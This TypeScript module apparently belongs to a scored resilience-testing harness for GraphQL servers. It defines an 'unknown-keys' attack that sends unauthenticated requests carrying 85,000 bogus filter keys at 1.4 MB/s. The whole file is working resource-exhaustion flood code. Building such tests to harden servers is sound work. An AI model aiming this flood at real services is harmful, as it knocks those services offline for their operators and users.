import type { Attack } from './attack.ts';
import { sendAtRate, sendPost } from './send-post.ts';

const KEYS = 85_000;
/** @unit bytes per second */
const RATE = 1_400_000;
const MAX_PENDING = 100;

const filter = Object.fromEntries(Array.from({ length: KEYS }, (_, index) => [`k${index}`, 1]));
const body = JSON.stringify({ query: 'query ($filter: ItemFilter) { items(filter: $filter) { id } }', variables: { filter } });
const perSecond = RATE / body.length;

/** Sends 1.4 MB/s of an input object with 85,000 unknown keys, from one address without credentials. */
export const unknownKeys: Attack = {
  name: 'unknown-keys',
  point: 3,
  minRate: 0.8 * perSecond,
  async run(target, tally, signal) {
    await sendAtRate(async () => sendPost(target, body, { tally, signal }), { perSecond, maxPending: MAX_PENDING, signal });
  },
};
